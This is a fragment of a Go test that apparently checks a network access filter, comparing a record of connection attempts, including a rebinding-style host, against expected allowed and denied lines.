				mayBe := strings.HasSuffix(got, " allowed") && (strings.HasPrefix(got, "tcp "+worldName+":") || strings.HasPrefix(got, "tcp rebind.example:"))
				if !explained[got] && !mayBe {
					t.Errorf("on the record is what nobody is known to have tried: %s", got)
				}
			}
			if t.Failed() {
				t.Logf("the record:\n%s", strings.Join(record, "\n"))
			}
			if got := b.ok(tcp("8.8.4.4:82")); !strings.HasPrefix(got, "raw 68656c6c6f") {
				t.Errorf("after the attempts what is allowed is not reached: %q", got)
			}
		})
	}
}

// matches compares two lines of a record; a reason * is any but that it was allowed.
func matches(want, got string) bool {
	if start, any := strings.CutSuffix(want, " *"); any {
		return strings.HasPrefix(got, start+" ") && !strings.HasSuffix(got, " allowed")
	}
	return want == got
}
